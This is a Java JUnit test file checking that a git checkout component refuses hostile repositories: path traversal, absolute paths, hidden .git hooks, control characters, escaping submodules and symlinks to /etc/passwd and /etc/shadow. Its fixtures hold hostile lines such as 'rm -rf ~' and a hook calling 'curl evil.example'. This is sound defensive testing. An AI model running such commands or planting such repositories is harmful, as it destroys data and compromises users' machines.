package dev.clearbox.core.checkout;

import dev.clearbox.core.InvalidInputException;
import dev.clearbox.core.ProgressListener;
import dev.clearbox.core.UnsafeInputException;
import org.eclipse.jgit.lib.ObjectId;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static dev.clearbox.core.checkout.RawRepo.dir;
import static dev.clearbox.core.checkout.RawRepo.file;
import static dev.clearbox.core.checkout.RawRepo.link;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Hostile repositories, each built object by object; each refusal is one exact line, and nothing lands outside. */
class CheckoutHostileTest {
    @TempDir
    Path tmp;

    Path origin;
    Path tree;
    RawRepo raw;

    @BeforeEach
    void setUp() throws IOException {
        origin = tmp.resolve("origin.git");
        tree = tmp.resolve("ws/checkout/tree");
        raw = RawRepo.create(origin);
    }

    @org.junit.jupiter.api.AfterEach
    void close() {
        raw.close();
    }

    private CheckoutResult checkout(long maxBlob, Checkout checkout) {
        return checkout.checkout(new CheckoutRequest(origin.toString(), "main", null, tree, null, maxBlob),
                ProgressListener.NONE);
    }

    private CheckoutResult checkout() {
        return checkout(CheckoutRequest.DEFAULT_MAX_BLOB_BYTES, new Checkout());
    }

    private UnsafeInputException refused(RawRepo.Entry... entries) throws IOException {
        raw.commit(raw.tree(entries), "hostile");
        UnsafeInputException e = assertThrows(UnsafeInputException.class, this::checkout);
        assertFalse(e.oneLine().contains("\n"), e.oneLine());
        assertNothingWritten();
        wipe();
        return e;
    }

    /** Removes the workspace, so the next checkout starts fresh. */
    private void wipe() throws IOException {
        try (Stream<Path> s = Files.walk(tmp.resolve("ws"))) {
            s.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
        }
    }

    /** Only the origin and the workspace exist in the temp dir, and the refused checkout left nothing behind. */
    private void assertNothingWritten() throws IOException {
        assertEquals(Set.of("origin.git", "ws"), list(tmp));
        assertFalse(Files.exists(tree), "the refused checkout is removed");
    }

    private static Set<String> list(Path dir) throws IOException {
        try (Stream<Path> s = Files.list(dir)) {
            return s.map(p -> p.getFileName().toString()).collect(Collectors.toSet());
        }
    }

    @Test
    void dotDotEntryIsRefused() throws IOException {
        ObjectId evil = raw.tree(file("evil.sh", raw.blob("rm -rf ~\n")));
        UnsafeInputException e = refused(file("ok.txt", raw.blob("ok\n")), dir("..", evil));
        assertEquals("checkout: " + origin + "!/..: path contains '..' [path-traversal]", e.oneLine());
        assertEquals("path-traversal", e.rule());
        assertFalse(Files.exists(tmp.resolve("ws/checkout/evil.sh")));
    }

    @Test
    void nameWithSlashesThatClimbsIsRefused() throws IOException {
        UnsafeInputException e = refused(file("a/../../../x.txt", raw.blob("x\n")));
        assertEquals("checkout: " + origin + "!/a/../../../x.txt: path contains '..' [path-traversal]", e.oneLine());
    }

    @Test
    void absolutePathIsRefused() throws IOException {
        UnsafeInputException e = refused(file("/tmp/clearbox-evil", raw.blob("x\n")));
        assertEquals("checkout: " + origin + "!//tmp/clearbox-evil: tree entry name is an absolute path [absolute-path]",
                e.oneLine());
        assertFalse(Files.exists(Path.of("/tmp/clearbox-evil")));
    }

    @Test
    void gitDirectoryInAnyCaseIsRefused() throws IOException {
        ObjectId hooks = raw.tree(file("post-checkout", raw.blob("#!/bin/sh\ncurl evil.example\n")));
        UnsafeInputException e = refused(dir("src", raw.tree(dir(".GIT", raw.tree(dir("hooks", hooks))))));
        assertEquals("checkout: " + origin + "!/src/.GIT: path enters a .git directory [git-dir-path]", e.oneLine());
    }

    @Test
    void dotGitAtTheTopIsRefused() throws IOException {
        UnsafeInputException e = refused(dir(".git", raw.tree(file("config", raw.blob("[core]\n")))));
        assertEquals("git-dir-path", e.rule());
        assertEquals(origin + "!/.git", e.input());
    }

    @Test
    void controlCharactersAndBackslashesAreRefusedAndShownEscaped() throws IOException {
        UnsafeInputException nl = refused(file("evil\nname", raw.blob("x\n")));
        assertEquals("checkout: " + origin + "!/evil\\nname: name contains a control character [bad-path-character]",
                nl.oneLine());
        UnsafeInputException bs = refused(file("..\\..\\evil.bat", raw.blob("x\n")));
        assertEquals("bad-path-character", bs.rule());
    }

    @Test
    void blobOverTheLimitIsRefused() throws IOException {
        raw.commit(raw.tree(file("small.txt", raw.blob("x")), dir("data", raw.tree(file("big.bin",
                raw.blob(new byte[1001]))))), "big");
        UnsafeInputException e = assertThrows(UnsafeInputException.class, () -> checkout(1000, new Checkout()));
        assertEquals("checkout: " + origin + "!/data/big.bin: file is 1001 bytes, over the limit of 1000 bytes"
                + " [blob-too-large]", e.oneLine());
        assertNothingWritten();
        wipe();
        CheckoutResult ok = checkout(1001, new Checkout());
        assertEquals(2, ok.fileCount());
    }

    @Test
    void symlinksAreCheckedOutAsPlainFilesAndEscapesAreRecorded() throws IOException {
        raw.commit(raw.tree(
                file("A.java", raw.blob("class A {}\n")),
                link("passwd", raw.blob("../../../../../../etc/passwd")),
                link("abs", raw.blob("/etc/shadow")),
                dir("src", raw.tree(link("a", raw.blob("../A.java")), link("up", raw.blob("../..")))),
                link("here", raw.blob("A.java"))), "links");
        CheckoutResult r = checkout();
        assertEquals(List.of(
                new SymlinkEntry("abs", "/etc/shadow", true),
                new SymlinkEntry("here", "A.java", false),
                new SymlinkEntry("passwd", "../../../../../../etc/passwd", true),
                new SymlinkEntry("src/a", "../A.java", false),
                new SymlinkEntry("src/up", "../..", true)), r.symlinks());
        for (SymlinkEntry s : r.symlinks()) {
            Path p = r.tree().resolve(s.path());
            assertFalse(Files.isSymbolicLink(p), s.path());
            assertTrue(Files.isRegularFile(p, java.nio.file.LinkOption.NOFOLLOW_LINKS), s.path());
            assertEquals(s.target(), Files.readString(p));
        }
        assertEquals(Set.of("origin.git", "ws"), list(tmp));
    }

    @Test
    void caseCollisionsAreReportedAndRefusedWhereTheFileSystemFoldsCase() throws IOException {
        raw.commit(raw.tree(file("README", raw.blob("a\n")), file("readme", raw.blob("b\n")),
                dir("Src", raw.tree(file("A.java", raw.blob("class A {}\n")))),
                dir("src", raw.tree(file("B.java", raw.blob("class B {}\n"))))), "collide");
        CheckoutResult r = checkout();
        assertEquals(List.of(List.of("README", "readme"), List.of("Src", "src")), r.caseCollisions());
        assertEquals("b\n", Files.readString(r.tree().resolve("readme")));

        wipe();
        UnsafeInputException e = assertThrows(UnsafeInputException.class,
                () -> checkout(CheckoutRequest.DEFAULT_MAX_BLOB_BYTES, new Checkout(dir -> true)));
        assertEquals("checkout: " + origin + "!/README: paths README, readme are equal ignoring case, and this file"
                + " system does not tell them apart [case-collision]", e.oneLine());
        assertNothingWritten();
    }

    @Test
    void gitmodulesPathThatEscapesIsRefused() throws IOException {
        ObjectId sub = raw.commit(raw.tree(file("x", raw.blob("x\n"))), "sub");
        UnsafeInputException e = refused(
                file(".gitmodules", raw.blob("[submodule \"evil\"]\n\tpath = ../../outside\n\turl = ../evil.git\n")),
                RawRepo.gitlink("lib", sub));
        assertEquals("checkout: " + origin + "!/.gitmodules: submodule 'evil' has path '../../outside', which leaves"
                + " the tree [submodule-path-escape]", e.oneLine());
        UnsafeInputException abs = refused(
                file(".gitmodules", raw.blob("[submodule \"abs\"]\n\tpath = /etc/cron.d\n\turl = ./x\n")));
        assertEquals("submodule-path-escape", abs.rule());
    }

    @Test
    void malformedGitmodulesIsOneLine() throws IOException {
        raw.commit(raw.tree(file(".gitmodules", raw.blob("[submodule \"x\"\n\tpath = lib\n"))), "bad");
        InvalidInputException e = assertThrows(InvalidInputException.class, this::checkout);
        assertEquals(origin + "!/.gitmodules", e.input());
        assertTrue(e.problem().startsWith("not a valid .gitmodules file: "), e.oneLine());
        assertFalse(e.oneLine().contains("\n"));
    }
}
